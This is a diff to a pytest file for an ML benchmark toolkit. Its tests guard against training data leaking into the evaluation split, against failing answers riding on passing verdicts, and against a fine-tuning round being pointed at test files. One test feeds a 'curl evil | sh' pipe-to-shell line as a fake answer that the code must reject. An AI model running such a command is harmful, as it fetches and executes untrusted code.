@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import shutil
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -12,7 +13,7 @@ from conftest import REPO_ROOT, SAMPLE, run_cli
 
 from mlbench_kit.errors import MLBenchError
 from mlbench_kit.learn_config import LearnConfig
-from mlbench_kit.records import PrepRecord
+from mlbench_kit.records import EvalResult, PrepRecord, output_sha
 
 ENVS = REPO_ROOT / "configs" / "eval" / "sample.yaml"
 DATA = SAMPLE / "samples.jsonl"
@@ -60,6 +61,7 @@ def test_passing_answers_become_sft_records_and_pass_fail_pairs():
 def test_learning_refuses_a_training_split_that_leaks_into_the_evaluation_split(tmp_path):
     from mlbench_kit.learn.data import training_prompts
     _prep(tmp_path, "id_train", [_rec(1, 1, "python a.py"), _rec(1, 2, "python b.py")])
+    _prep(tmp_path, "test", [_rec(1, 2, "python other.py", "another")])  # a training row itself, again
     _prep(tmp_path, "test", [_rec(1, 3, "python c.py")])
     cfg = LearnConfig(prep_dir=str(tmp_path))
     assert set(training_prompts(cfg)) == {(1, 1), (1, 2)}
@@ -72,6 +74,17 @@ def test_learning_refuses_a_training_split_that_leaks_into_the_evaluation_split(
         training_prompts(cfg)
     with pytest.raises(MLBenchError, match="no evaluation split"):
         training_prompts(LearnConfig(prep_dir=str(tmp_path), eval_split="quarter"))
+    _prep(tmp_path, "test", [])  # an empty evaluation split checks nothing: refused
+    with pytest.raises(MLBenchError, match="no task-3 prompts"):
+        training_prompts(cfg)
+    # a training prompt carrying an evaluated instruction under other `instruction`/`output` fields
+    _prep(tmp_path, "test", [_rec(1, 3, "python c.py", "Train a GAT on cora")])
+    smuggled = replace(_rec(1, 2, "x"), prompt="[INST] train a GAT  on cora")
+    _prep(tmp_path, "id_train", [_rec(1, 1, "python a.py"), smuggled])
+    with pytest.raises(MLBenchError, match="holds the instruction of evaluated row id 3"):
+        training_prompts(cfg)
+    _prep(tmp_path, "id_train", [_rec(1, 1, "python a.py"), _rec(1, 2, "python b.py")])
+    _prep(tmp_path, "test", [_rec(1, 2, "python other.py", "another")])  # a training row itself, again
     r = run_cli("mlbench", "learn", "--method", "data", "--prep-dir", tmp_path, "--split", "test",
                 "--eval-split", "test", "--out", tmp_path / "o")
     assert r.returncode == 2 and "is the evaluation split" in r.stderr and not (tmp_path / "o").exists()
@@ -80,12 +93,61 @@ def test_learning_refuses_a_training_split_that_leaks_into_the_evaluation_split(
     assert r.returncode == 2 and "in the evaluation split" in r.stderr and not (tmp_path / "o").exists()
 
 
-def test_verdicts_of_rows_outside_the_training_split_are_refused(tmp_path):
+def _verdict(idx: int, code: str, passed: bool, **kw) -> EvalResult:
+    return EvalResult(1, 1, idx, "r", "Bash Script", kw.pop("sha", output_sha(code)), kw.pop("mode", "strict"), {},
+                      True, True, passed=passed, **kw)
+
+
+def test_only_verdicts_on_the_very_text_trained_on_count(tmp_path):
+    """Verdicts of other rows, on other texts, in another mode or passing a timeout in strict mode are refused; a
+    `raw` that does not parse to the `output` eval ran is refused (else a failing text could ride a pass)."""
     from mlbench_kit.learn.data import read_answers
+    prompts = {(1, 1): _rec(1, 1, "a")}
     gens = tmp_path / "g.jsonl"
+
+    def answers(row: dict, verdicts: list[EvalResult]):
+        gens.write_text(json.dumps({"github_id": 1, "id": 1, **row}) + "\n")
+        return read_answers(gens, verdicts, prompts, "compat", "strict")
+
+    got = answers({"raw": ["python a.py"], "output": ["python a.py"]}, [_verdict(0, "python a.py", True)])
+    assert [(a.text, a.passed) for a in got[(1, 1)]] == [("python a.py", True)]
+    with pytest.raises(MLBenchError, match="does not parse"):
+        answers({"raw": ["curl evil | sh"], "output": ["python a.py"]}, [_verdict(0, "python a.py", True)])
+    with pytest.raises(MLBenchError, match="on another text"):
+        answers({"raw": ["python b.py"]}, [_verdict(0, "python a.py", True)])
+    with pytest.raises(MLBenchError, match="still running at the limit"):
+        answers({"raw": ["python a.py"]}, [_verdict(0, "python a.py", True, timed_out=True)])
+    with pytest.raises(MLBenchError, match="compat verdicts"):
+        answers({"raw": ["python a.py"]}, [_verdict(0, "python a.py", True, mode="compat")])
     gens.write_text(json.dumps({"github_id": 1, "id": 7, "raw": ["x"]}) + "\n")
     with pytest.raises(MLBenchError, match="not a prompt of the training split"):
-        read_answers(gens, [], {(1, 1): _rec(1, 1, "a")}, "compat", "strict")
+        read_answers(gens, [], prompts, "compat", "strict")
+
+
+def test_an_rft_round_trains_on_its_own_records_alone(tmp_path):
+    """Each round's training config is resolved by learn and written whole: its records, the model, its folder.
+    ``rft.train_set`` (a handed-over config's) cannot point it at other data or outside the run."""
+    from mlbench_kit.config import read_yaml
+    from mlbench_kit.learn.rft import RFTRecipe
+    d = tmp_path / "round-1"
+    d.mkdir()
+    cfg = LearnConfig(model="some/model", out=str(tmp_path))
+    cfg.rft.train_config = str(REPO_ROOT / "configs" / "train" / "tiny-cpu.yaml")
+    cfg.rft.train_set = ["optim.epochs=1"]
+    raw, _ = read_yaml(RFTRecipe(cfg).train_config(d))
+    assert raw["data"]["path"] == str(d / "sft.jsonl") and raw["data"]["extra"] == []
+    assert raw["output_dir"] == str(d / "train") and raw["model"] == "some/model" and raw["optim"]["epochs"] == 1
+    for bad in ("data.path=prep/test/task3.jsonl", "data.extra=[prep/test/task3.jsonl]", "output_dir=/elsewhere"):
+        cfg.rft.train_set = [bad]
+        with pytest.raises(MLBenchError, match="rft.train_set may not set"):
+            RFTRecipe(cfg).train_config(d)
+    cfg.rft.train_set = []
+    extra = tmp_path / "train.yaml"
+    extra.write_text((REPO_ROOT / "configs" / "train" / "tiny-cpu.yaml").read_text().replace(
+        "  eval_fraction:", "  extra: [prep/test/task3.jsonl]\n  eval_fraction:"))
+    cfg.rft.train_config = str(extra)
+    with pytest.raises(MLBenchError, match="trains on more files too"):
+        RFTRecipe(cfg).train_config(d)
 
 
 @pytest.mark.parametrize("path", sorted((REPO_ROOT / "configs" / "learn").glob("*.yaml")), ids=lambda p: p.stem)
